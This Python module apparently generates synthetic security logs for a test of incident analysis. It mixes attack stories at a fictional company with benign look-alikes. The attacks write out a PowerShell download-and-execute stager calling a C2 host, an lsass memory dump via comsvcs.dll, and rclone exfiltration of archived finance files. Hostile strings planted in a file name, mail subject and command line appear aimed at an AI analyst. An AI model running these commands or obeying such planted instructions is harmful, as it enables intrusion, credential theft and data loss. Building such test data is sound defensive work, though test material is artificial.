"""The stories of Kestrel and their look-alikes, told in offsets before the end (KESTREL facts)."""

import base64
import random
from collections.abc import Mapping
from datetime import datetime, timedelta
from typing import Any

from ...tools.languages.vocabulary import EventClass
from .identity import digest, guid
from .scene import FALCON, SENTINELONE, Host, Process, Scene

OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
SERVICES = Process("services.exe", "C:\\Windows\\System32\\services.exe", 700, "C:\\Windows\\System32\\services.exe")
SYSTEM = Process("System", "", 4)
EDGE = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Edg/131.0"


def encoded(script: str) -> str:
    """A script as PowerShell's -enc takes it."""
    return base64.b64encode(script.encode("utf-16-le")).decode()


def invoice(scene: Scene, world: Mapping[str, Any]) -> None:
    """S1: a macro on a workstation, credentials dumped, a server entered by PsExec, finance files taken out."""
    host, user = scene.hosts["WS-042"], "m.alvarez"
    document, _, archive, tool = world["files"]
    c2, target = world["external"]["c2"], world["external"]["exfiltration"]
    opened = scene.at(hours=8, minutes=12)
    outlook = scene.program("OUTLOOK.EXE", OFFICE + "OUTLOOK.EXE", f'"{OFFICE}OUTLOOK.EXE"')
    path = f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\8KX2PQ1T\\{document}"
    scene.write(opened - timedelta(seconds=9), host, outlook, path, user, 48_211, "S1")
    word = scene.program("WINWORD.EXE", OFFICE + "WINWORD.EXE", f'"{OFFICE}WINWORD.EXE" /n "{path}" /o ""', outlook)
    scene.launch(opened, host, word, user, "S1")
    stager = f"$c=New-Object Net.WebClient;while($true){{$c.DownloadString('https://{c2}/p')|iex;sleep 60}}"
    shell = scene.program(
        "powershell.exe", POWERSHELL, f"powershell.exe -NoP -W Hidden -enc {encoded(scene.rename(stager))}", word
    )
    scene.launch(opened + timedelta(seconds=14), host, shell, user, "S1")
    first = scene.at(hours=8, minutes=10)
    for beat in range(125):
        scene.connect(first + timedelta(seconds=60 * beat), host, shell, c2, 443, user, "S1")
    label = world["hostile"]["dns"]
    scene.resolve(first + timedelta(seconds=20), host, shell, f"{label}.{world['campaign']['domain']}", "S1")
    _dump_credentials(scene, world, shell)
    _enter_server(scene, world, shell)
    _take_finance_files(scene, world, archive, tool, target)
    scene.alert(
        opened + timedelta(seconds=30), host, "Office Application Spawned Encoded PowerShell", "High", "T1204.002",
        "Execution", shell, user, sensor=FALCON, story="S1", uid="@S1-macro",
        about="A document opened in Word started PowerShell with an encoded command.",
    )  # fmt: skip


def _dump_credentials(scene: Scene, world: Mapping[str, Any], shell: Process) -> None:
    host, user, dump = scene.hosts["WS-042"], "m.alvarez", world["files"][1]
    when = scene.at(hours=7, minutes=40)
    command = f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\{dump} full"
    rundll = scene.program("rundll32.exe", command=command, parent=shell)
    scene.launch(when, host, rundll, user, "S1")
    scene.write(when + timedelta(seconds=2), host, rundll, f"C:\\ProgramData\\{dump}", user, 52_113_408, "S1")
    scene.alert(
        when + timedelta(seconds=15), host, "Credential Dumping via Comsvcs MiniDump", "Critical", "T1003.001",
        "Credential Access", rundll, user, sensor=FALCON, story="S1", uid="@S1-credential-dumping",
        about="rundll32 wrote the memory of lsass to a file with comsvcs.dll.",
    )  # fmt: skip


def _enter_server(scene: Scene, world: Mapping[str, Any], shell: Process) -> None:
    host, server, controller = scene.hosts["WS-042"], scene.hosts["FS-01"], scene.hosts["DC-01"]
    when = scene.at(hours=6, minutes=55)
    scene.connect(when - timedelta(seconds=4), host, shell, server.ip, 135, "m.alvarez", "S1")
    scene.connect(when - timedelta(seconds=3), host, SYSTEM, server.ip, 445, "", "S1")
    scene.accept(when - timedelta(seconds=3), server, host.ip, 445, "S1")
    scene.ticket(when - timedelta(seconds=2), controller, "svc-backup", f"{server.name}$", host.ip, story="S1")
    scene.logon(when, server, "svc-backup", kind="Network", source=host.ip, story="S1")
    install_service(scene, when + timedelta(seconds=1), server, "S1")


def install_service(scene: Scene, when: datetime, server: Host, story: str) -> Process:
    """PsExec's service appears on a host; gives its process."""
    scene.write(when, server, SYSTEM, "C:\\Windows\\PSEXESVC.exe", "", 716_176, story)
    key = "HKLM\\SYSTEM\\CurrentControlSet\\Services\\PSEXESVC"
    scene.registry(
        when + timedelta(milliseconds=300), server, SERVICES, key, "ImagePath", "%SystemRoot%\\PSEXESVC.exe", story
    )
    service = scene.program("PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", SERVICES)
    return scene.launch(when + timedelta(milliseconds=700), server, service, "SYSTEM", story)


def _take_finance_files(scene: Scene, world: Mapping[str, Any], archive: str, tool: str, target: str) -> None:
    server, user = scene.hosts["FS-01"], "svc-backup"
    service = next(
        Process(
            seen.text("process.name"),
            seen.text("process.path"),
            int(seen.text("process.pid")),
            seen.text("process.cmd_line"),
        )
        for seen in reversed(scene.seen)
        if seen.story == "S1" and seen.text("process.name") == "PSEXESVC.exe" and seen.host == server.name
    )
    explored = scene.at(hours=6, minutes=50)
    command = scene.program("cmd.exe", command=f'"cmd.exe" /c "whoami & {world["hostile"]["command"]}"', parent=service)
    scene.launch(explored - timedelta(seconds=3), server, command, user, "S1")
    scene.launch(explored, server, scene.program("whoami.exe", command="whoami", parent=command), user, "S1")
    group = scene.program("net.exe", command='net group "Domain Admins" /domain', parent=command)
    scene.launch(explored + timedelta(seconds=21), server, group, user, "S1")
    packed = scene.at(hours=6, minutes=30)
    seven = scene.program(
        "7z.exe", "C:\\Program Files\\7-Zip\\7z.exe",
        f'"C:\\Program Files\\7-Zip\\7z.exe" a -mx1 -pQ3 C:\\Windows\\Temp\\{archive} D:\\Shares\\Finance', command,
    )  # fmt: skip
    scene.launch(packed, server, seven, user, "S1")
    scene.write(
        packed + timedelta(seconds=40), server, seven, f"C:\\Windows\\Temp\\{archive}", user, 1_932_735_283, "S1"
    )
    sent = scene.at(hours=6, minutes=5)
    rclone = scene.program(
        tool, f"C:\\Windows\\Temp\\{tool}",
        f"C:\\Windows\\Temp\\{tool} copy C:\\Windows\\Temp\\{archive} drop:in --sftp-host {target} --sftp-port 443", command,
    )  # fmt: skip
    scene.write(sent - timedelta(minutes=1), server, SYSTEM, f"C:\\Windows\\Temp\\{tool}", "", 51_200_000, "S1")
    scene.launch(sent, server, rclone, user, "S1")
    scene.connect(sent + timedelta(seconds=2), server, rclone, target, 443, user, "S1")
    scene.alert(
        sent + timedelta(seconds=30), server, tool, "Medium", "T1567.002", "Exfiltration", rclone, user,
        sensor=SENTINELONE, story="S1", uid="@S1-rclone", about="Exfiltration tool", mitigation="not_mitigated",
    )  # fmt: skip


def hostile_file(scene: Scene, world: Mapping[str, Any]) -> None:
    """A file on the file server whose name is an order to an assistant."""
    server = scene.hosts["FS-01"]
    when = scene.at(hours=6, minutes=12)
    scene.write(when, server, SYSTEM, f"D:\\Shares\\Public\\{world['hostile']['file']}", "", 12, "hostile")


def campaign(scene: Scene, world: Mapping[str, Any]) -> None:
    """S12: 23 mails, 9 with the document, 14 with a link; 6 quarantined; five clicks; one password; two reports."""
    facts, company = world["campaign"], world["company"]["domain"]
    people = list(world["people"])
    crowd = [f"{name}.{family}" for name, family in zip(world["given"], world["family"], strict=False)]
    link = f"http://{facts['domain']}/login"
    clickers = ["d.okoye", "t.brandt", *crowd[:3]]
    recipients = [("m.alvarez", True), *((name, True) for name in crowd[10:18])]
    recipients += [(name, False) for name in clickers] + [(name, False) for name in [*people[3:7], *crowd[3:8]]]
    sent = scene.at(hours=33)
    for number, (user, with_file) in enumerate(recipients):
        when = sent + timedelta(seconds=7 * number)
        message = guid("mail", number, facts["domain"])
        stopped = number in (4, 6, 8, 17, 19, 21)
        subject = world["hostile"]["subject"] if number == 12 else facts["subject"]
        mail = {
            "NetworkMessageId": message, "SenderFromAddress": f"{facts['sender']}@{facts['domain']}",
            "SenderMailFromAddress": f"{facts['sender']}@{facts['domain']}", "SenderDisplayName": "Kestrel Billing",
            "SenderFromDomain": facts["domain"], "SenderIPv4": "203.0.113.88",
            "RecipientEmailAddress": f"{user}@{company}", "Subject": subject, "EmailDirection": "Inbound",
            "DeliveryAction": "Blocked" if stopped else "Delivered",
            "DeliveryLocation": "Quarantine" if stopped else "Inbox/folder", "ThreatTypes": "Phish" if stopped else "",
            "AttachmentCount": int(with_file), "UrlCount": int(not with_file),
        }  # fmt: skip
        scene.cloud(when, "EmailEvents", mail, "S12")
        shared = {key: mail[key] for key in ("NetworkMessageId", "SenderFromAddress", "RecipientEmailAddress")}
        if with_file:
            file = {
                "FileName": world["files"][0],
                "FileType": "docm",
                "SHA256": digest("file", world["files"][0].lower()),
            }
            scene.cloud(when, "EmailAttachmentInfo", shared | file, "S12")
        else:
            address = {"NetworkMessageId": message, "Url": link, "UrlDomain": facts["domain"], "UrlLocation": "Body"}
            scene.cloud(when, "EmailUrlInfo", address, "S12")
            if user in clickers:
                pressed = scene.at(hours=32, minutes=8) if user == "d.okoye" else when + timedelta(minutes=11 + number)
                click = {
                    "Url": link, "ActionType": "ClickAllowed", "AccountUpn": f"{user}@{company}", "Workload": "Email",
                    "NetworkMessageId": message, "IPAddress": "192.0.2.10", "IsClickedThrough": True,
                }  # fmt: skip
                scene.cloud(pressed, "UrlClickEvents", click, "S12")
    form = {
        "Url": f"{link}/submit", "ActionType": "ClickAllowed", "AccountUpn": f"d.okoye@{company}", "Workload": "Browser",
        "IPAddress": "192.0.2.10", "IsClickedThrough": True,
    }  # fmt: skip
    scene.cloud(scene.at(hours=32), "UrlClickEvents", form, "S12")
    for user, minutes in (("l.haas", 1920), (crowd[4], 1900)):
        report = {
            "Operation": "UserSubmission", "OfficeWorkload": "SecurityComplianceCenter", "UserId": f"{user}@{company}",
            "RecordType": "UserSubmission", "ResultStatus": "Succeeded", "OfficeObjectId": facts["subject"],
            "Parameters": f"reported mail from {facts['sender']}@{facts['domain']} as phishing",
        }  # fmt: skip
        scene.cloud(scene.at(minutes=minutes), "OfficeActivity", report, "S12")


def signin(
    scene: Scene, when: datetime, user: str, ip: str, city: str, country: str, *, company: str, session: str = "",
    result: str = "0", client: str = "Browser", mfa: str = "multiFactorAuthentication", detail: str = "",
    app: str = "Office 365 Exchange Online", story: str = "", agent: str = EDGE,
) -> None:  # fmt: skip
    """A sign-in to the cloud directory."""
    descriptions = {"0": "", "50126": "Invalid username or password.", "50053": "Account is locked."}
    row = {
        "Id": guid("signin", user, when.isoformat(), ip), "UserPrincipalName": f"{user}@{company}",
        "UserId": guid("user", user), "UserDisplayName": user, "IPAddress": ip, "Location": country, "ResultType": result,
        "ResultDescription": descriptions.get(result, ""), "ClientAppUsed": client, "AppDisplayName": app,
        "AuthenticationRequirement": mfa, "UserAgent": agent, "SessionId": session or guid("session", user, when.date()),
        "RiskLevelDuringSignIn": "none", "ResourceDisplayName": app, "CorrelationId": guid("corr", user, when.isoformat()),
        "LocationDetails": {"city": city, "countryOrRegion": country},
        "Status": {"errorCode": int(result), "additionalDetails": detail}, "OperationName": "Sign-in activity",
    }  # fmt: skip
    from .tables import tables

    columns = tables()["SigninLogs"]
    plain = {name: value for name, value in row.items() if name in columns}
    for name in ("LocationDetails", "Status"):
        if columns.get(name) == "VARCHAR":
            import json

            plain[name] = json.dumps(plain[name])
    scene.cloud(when, "SigninLogs", plain, story)


def session(scene: Scene, world: Mapping[str, Any]) -> None:
    """S2: a stolen session, a new authenticator, a forwarding rule, a mass download."""
    company, user, thief = world["company"]["domain"], "d.okoye", world["external"]["session_thief"]
    stolen = guid("stolen-session", user)
    signin(
        scene,
        scene.at(hours=31),
        user,
        world["external"]["vpn"],
        "Hamburg",
        "DE",
        company=company,
        session=stolen,
        story="S2",
    )
    signin(
        scene, scene.at(hours=30), user, thief, "Amsterdam", "NL", company=company, session=stolen, story="S2",
        detail="MFA requirement satisfied by claim in the token",
    )  # fmt: skip
    audit(
        scene,
        scene.at(hours=29, minutes=30),
        "User registered security info",
        "UserManagement",
        user,
        user,
        thief,
        company,
        "S2",
    )
    rule = {
        "Operation": "New-InboxRule", "OfficeWorkload": "Exchange", "RecordType": "ExchangeAdmin", "ResultStatus": "True",
        "UserId": f"{user}@{company}", "ClientIP": thief, "OfficeObjectId": ".",
        "Parameters": f'[{{"Name":"Name","Value":"."}},{{"Name":"SubjectContainsWords","Value":"invoice"}},'
        f'{{"Name":"ForwardTo","Value":"{world["campaign"]["drop"]}"}}]',
    }  # fmt: skip
    scene.cloud(scene.at(hours=29), "OfficeActivity", rule, "S2")
    for number in range(214):
        row = {
            "Operation": "FileDownloaded", "OfficeWorkload": "SharePoint", "RecordType": "SharePointFileOperation",
            "ResultStatus": "Succeeded", "UserId": f"{user}@{company}", "ClientIP": thief, "ItemType": "File",
            "OfficeObjectId": f"https://kestrel.sharepoint.com/sites/Contracts/Shared Documents/contract_{number:04d}.pdf",
            "Site_Url": "https://kestrel.sharepoint.com/sites/Contracts", "SourceFileName": f"contract_{number:04d}.pdf",
        }  # fmt: skip
        scene.cloud(scene.at(hours=28) + timedelta(seconds=3 * number), "OfficeActivity", row, "S2")


def audit(
    scene: Scene, when: datetime, operation: str, category: str, actor: str, target: str, ip: str, company: str,
    story: str = "", properties: list[dict[str, str]] | None = None, name: str = "", detail: str = "",
) -> None:  # fmt: skip
    """A change in the cloud directory."""
    import json

    from .tables import tables

    row: dict[str, Any] = {
        "Id": guid("audit", operation, actor, target, when.isoformat()), "OperationName": operation, "Category": category,
        "Result": "success", "ActivityDisplayName": operation, "ResultReason": detail,
        "InitiatedBy": {"user": {"userPrincipalName": f"{actor}@{company}", "id": guid("user", actor), "ipAddress": ip}},
        "TargetResources": [
            {
                "userPrincipalName": f"{target}@{company}" if target else None, "id": guid("user", target or name),
                "displayName": name or target, "modifiedProperties": properties or [],
            }
        ],
    }  # fmt: skip
    columns = tables()["AuditLogs"]
    plain = {
        key: json.dumps(value) if columns.get(key) == "VARCHAR" and not isinstance(value, str) else value
        for key, value in row.items()
        if key in columns
    }
    scene.cloud(when, "AuditLogs", plain, story)


def consent(scene: Scene, world: Mapping[str, Any]) -> None:
    """S3: consent to an app of an unverified publisher, which then reads a mailbox."""
    company, user, reader = world["company"]["domain"], "h.lindqvist", world["external"]["consent_reader"]
    when = scene.at(days=3)
    scopes = [
        {"displayName": "ConsentAction.Permissions", "oldValue": "", "newValue": "Scope: Mail.Read offline_access"}
    ]
    audit(
        scene, when, "Consent to application", "ApplicationManagement", user, "", world["external"]["vpn"], company, "S3",
        scopes, name=world["hostile"]["app"], detail="publisher unverified",
    )  # fmt: skip
    for number in range(95):
        row = {
            "Operation": "MailItemsAccessed", "OfficeWorkload": "Exchange", "RecordType": "ExchangeItemAggregated",
            "ResultStatus": "Succeeded", "UserId": f"{user}@{company}", "ClientIP": reader,
            "ClientInfoString": world["app"]["name"], "OfficeObjectId": f"Inbox batch {number}", "Parameters": "12 items",
        }  # fmt: skip
        scene.cloud(when + timedelta(minutes=10 + 30 * number), "OfficeActivity", row, "S3")


def spray(scene: Scene, world: Mapping[str, Any]) -> None:
    """S5: eight addresses try 38 accounts; one gets in over IMAP without a second factor."""
    company = world["company"]["domain"]
    draw = random.Random("spray")
    crowd = [f"{given}.{family}" for family in world["family"] for given in world["given"][:2]]
    accounts = [*world["people"], *crowd][:38]
    start = scene.at(days=2)
    for number, user in enumerate(accounts):
        for attempt in range(draw.randint(3, 5)):
            when = start + timedelta(seconds=60 * number + 14 * attempt)
            ip = world["external"]["spray"][(number + attempt) % 8]
            signin(
                scene, when, user, ip, "Sofia", "BG", company=company, result="50126", client="IMAP4", story="S5",
                mfa="singleFactorAuthentication", agent="BAV2ROPC",
            )  # fmt: skip
    signin(
        scene, start + timedelta(minutes=39), "k.ferreira", world["external"]["spray"][5], "Sofia", "BG", company=company,
        client="IMAP4", mfa="singleFactorAuthentication", story="S5", agent="BAV2ROPC",
    )  # fmt: skip


def key(scene: Scene, world: Mapping[str, Any]) -> None:
    """S10: a deployment key used from elsewhere, to make a user and open a bucket."""
    thief = world["external"]["key_thief"]
    start = scene.at(days=2, hours=6)
    policy = '{"userName":"support-svc","policyArn":"arn:aws:iam::aws:policy/AdministratorAccess"}'
    opened = '{"bucketName":"kestrel-manifests","policy":{"Principal":"*","Effect":"Allow"}}'
    calls = (
        ("ListBuckets", "s3.amazonaws.com", "{}"),
        ("CreateUser", "iam.amazonaws.com", '{"userName":"support-svc"}'),
        ("AttachUserPolicy", "iam.amazonaws.com", policy),
        ("PutBucketPolicy", "s3.amazonaws.com", opened),
    )
    for number, (name, source, parameters) in enumerate(calls):
        scene.cloud(
            start + timedelta(minutes=2 * number),
            "AWSCloudTrail",
            _call(name, source, parameters, thief, world["hostile"]["user_agent"]),
            "S10",
        )
    for day in range(13):
        when = scene.at(days=day, hours=5)
        scene.cloud(
            when,
            "AWSCloudTrail",
            _call(
                "PutObject",
                "s3.amazonaws.com",
                '{"bucketName":"kestrel-manifests"}',
                world["external"]["vpn"],
                "aws-cli/2.15",
            ),
        )


def _call(name: str, source: str, parameters: str, ip: str, agent: str) -> dict[str, Any]:
    return {
        "AwsEventId": guid("aws", name, ip, parameters, agent), "EventName": name, "EventSource": source,
        "EventTypeName": "AwsApiCall", "SourceIpAddress": ip, "UserAgent": agent, "UserIdentityUserName": "ci-deploy",
        "UserIdentityArn": "arn:aws:iam::210987654321:user/ci-deploy", "UserIdentityAccessKeyId": "AKIADEPLOY0000000001",
        "RequestParameters": parameters,
    }  # fmt: skip


def patching(scene: Scene, world: Mapping[str, Any]) -> None:
    """B1: an administrator patches servers by PsExec under a change ticket."""
    admin, user, change = scene.hosts["ADM-01"], "j.okafor", world["change"]
    targets = ["SRV-APP-01", "SRV-APP-02", "SRV-APP-03", "SRV-APP-04", "SRV-SQL-01", "FS-01"]
    for number, name in enumerate(targets):
        server = scene.hosts[name]
        when = scene.at(hours=20) + timedelta(minutes=22 * number)
        command = f"C:\\Tools\\PsExec64.exe \\\\{name} -s C:\\Patches\\{change}\\install.cmd"
        shell = scene.program("cmd.exe", command=f"cmd.exe /k title {change}")
        client = scene.program("PsExec64.exe", "C:\\Tools\\PsExec64.exe", command, shell)
        scene.launch(when - timedelta(seconds=6), admin, client, user, "B1")
        scene.connect(when - timedelta(seconds=4), admin, client, server.ip, 135, user, "B1")
        scene.connect(when - timedelta(seconds=4), admin, SYSTEM, server.ip, 445, "", "B1")
        scene.accept(when - timedelta(seconds=3), server, admin.ip, 445, "B1")
        scene.ticket(when - timedelta(seconds=2), scene.hosts["DC-01"], user, f"{name}$", admin.ip, story="B1")
        scene.logon(when, server, user, kind="Network", source=admin.ip, story="B1")
        service = install_service(scene, when + timedelta(seconds=1), server, "B1")
        run = scene.program("cmd.exe", command=f'cmd.exe /c "C:\\Patches\\{change}\\install.cmd"', parent=service)
        scene.launch(when + timedelta(seconds=4), server, run, user, "B1")
        update = scene.program(
            "wusa.exe", command=f"wusa.exe C:\\Patches\\{change}\\kb5046613.msu /quiet /norestart", parent=run
        )
        scene.launch(when + timedelta(seconds=6), server, update, user, "B1")


def scanner(scene: Scene, world: Mapping[str, Any]) -> None:
    """B2: the vulnerability scanner touches 445 and 3389 of every host at 01:00."""
    source = world["scanner"]
    for night in nights(scene, 1):
        for number, host in enumerate(scene.hosts.values()):
            for port in (22,) if host.linux else (445, 3389):
                scene.accept(night + timedelta(seconds=3 * number + port % 7), host, source, port, "B2")


def nightly_backup(scene: Scene, world: Mapping[str, Any]) -> None:
    """B3: the backup account logs on to the file server from the backup server at 02:00, 7z included."""
    server, source = scene.hosts["FS-01"], scene.hosts["SRV-BK-01"]
    for night in nights(scene, 2):
        scene.ticket(
            night - timedelta(seconds=1), scene.hosts["DC-01"], "svc-backup", f"{server.name}$", source.ip, story="B3"
        )
        scene.logon(night, server, "svc-backup", kind="Network", source=source.ip, story="B3")
        agent = scene.program(
            "veeamagent.exe",
            "C:\\Program Files\\Veeam\\veeamagent.exe",
            '"C:\\Program Files\\Veeam\\veeamagent.exe" -job nightly',
            SERVICES,
        )
        scene.launch(night + timedelta(seconds=5), server, agent, "svc-backup", "B3")
        seven = scene.program(
            "7z.exe", "C:\\Program Files\\7-Zip\\7z.exe",
            f'"C:\\Program Files\\7-Zip\\7z.exe" a E:\\Staging\\shares_{night:%Y%m%d}.7z D:\\Shares', agent,
        )  # fmt: skip
        scene.launch(night + timedelta(seconds=30), server, seven, "svc-backup", "B3")
        scene.write(
            night + timedelta(minutes=9),
            server,
            seven,
            f"E:\\Staging\\shares_{night:%Y%m%d}.7z",
            "svc-backup",
            9_000_000_000,
            "B3",
        )
        scene.connect(night + timedelta(minutes=10), server, agent, source.ip, 10006, "svc-backup", "B3")


def traveller(scene: Scene, world: Mapping[str, Any]) -> None:
    """B5: the managing director signs in at home, and 40 minutes later through the VPN."""
    company = world["company"]["domain"]
    for day in range(14):
        when = scene.at(days=day, hours=6)
        if when.weekday() < 5:
            signin(scene, when, "c.moreau", "198.51.100.201", "Lyon", "FR", company=company, story="B5")
            signin(
                scene,
                when + timedelta(minutes=40),
                "c.moreau",
                world["external"]["vpn"],
                "Frankfurt",
                "DE",
                company=company,
                story="B5",
            )


def build_agent(scene: Scene, world: Mapping[str, Any]) -> None:
    """B6: the build account runs encoded PowerShell at every build; its alert was closed as expected before."""
    host, user = scene.hosts["BLD-01"], "svc-build"
    step = encoded("Set-Location D:\\agent\\_work; ./build.ps1 -Configuration Release")
    title = "Encoded PowerShell Command"
    for day in range(13, -1, -1):
        for hour in (4, 9):
            _build(scene, host, scene.at(days=day, hours=hour), step, user)
    latest = _build(scene, host, scene.at(hours=3), step, user)
    scene.alert(
        scene.at(hours=3) + timedelta(seconds=20), host, title, "Medium", "T1059.001", "Execution", latest, user,
        sensor=FALCON, story="B6", uid="@B6-build-agent", about="PowerShell ran with an encoded command.",
    )  # fmt: skip
    scene.alert(
        scene.at(days=20), host, title, "Medium", "T1059.001", "Execution", latest, user, sensor=FALCON, story="B6",
        uid="@B6", about="PowerShell ran with an encoded command.", verdict="False Positive",
        comment="build agent, expected",
    )  # fmt: skip


def _build(scene: Scene, host: Host, when: datetime, step: str, user: str) -> Process:
    agent = scene.program(
        "Agent.Worker.exe", "D:\\agent\\bin\\Agent.Worker.exe", "D:\\agent\\bin\\Agent.Worker.exe spawnclient", SERVICES
    )
    scene.launch(when - timedelta(seconds=8), host, agent, user, "B6")
    shell = scene.program("powershell.exe", POWERSHELL, f"powershell.exe -NoLogo -NonInteractive -enc {step}", agent)
    scene.launch(when, host, shell, user, "B6")
    compiler = scene.program("MSBuild.exe", "C:\\Program Files\\MSBuild\\MSBuild.exe", "MSBuild.exe app.sln /m", shell)
    scene.launch(when + timedelta(seconds=12), host, compiler, user, "B6")
    return shell


def nights(scene: Scene, hour: int) -> list[datetime]:
    """The moments of an hour of the night within the last 14 days, oldest first."""
    last = scene.end.replace(hour=hour, minute=0, second=0, microsecond=0)
    if last > scene.end - timedelta(minutes=15):
        last -= timedelta(days=1)
    return [last - timedelta(days=day) for day in range(13, -1, -1)]


def vulnerabilities(scene: Scene) -> None:
    """Open and closed weaknesses of workstations."""
    open_ones = (
        ("CVE-2023-23397", ("WS-042", "WS-017", "WS-003"), 9.8, "Critical", 90, True, "Microsoft Outlook 2019"),
        ("CVE-2024-38112", ("WS-023", "WS-029"), 7.5, "High", 60, False, "Windows MSHTML Platform"),
    )
    for cve, hosts, points, severity, exploit, known, product in open_ones:
        for name in hosts:
            _weakness(scene, name, cve, points, severity, exploit, known, product)
    closed = scene.at(days=10)
    _weakness(scene, "ADM-01", "CVE-2021-36934", 7.8, "High", 60, True, "Windows 10", f"{closed:%Y-%m-%dT%H:%M:%SZ}")


def _weakness(
    scene: Scene,
    name: str,
    cve: str,
    points: float,
    severity: str,
    exploit: int,
    known: bool,
    product: str,
    closed: str = "",
) -> None:
    attributes: dict[str, Any] = {
        "vulnerability.cve": cve, "vulnerability.score": points, "vulnerability.severity": severity,
        "vulnerability.exploit_status": exploit, "vulnerability.kev": known, "vulnerability.product": product,
    }  # fmt: skip
    if closed:
        attributes["vulnerability.closed"] = closed
    scene.note(
        EventClass.VULNERABILITY, scene.at(days=30), scene.hosts[name], attributes, "vulnerability", sensors={FALCON}
    )


STORIES = (
    invoice, hostile_file, campaign, session, consent, spray, key, patching, scanner, nightly_backup, traveller, build_agent,
)  # fmt: skip
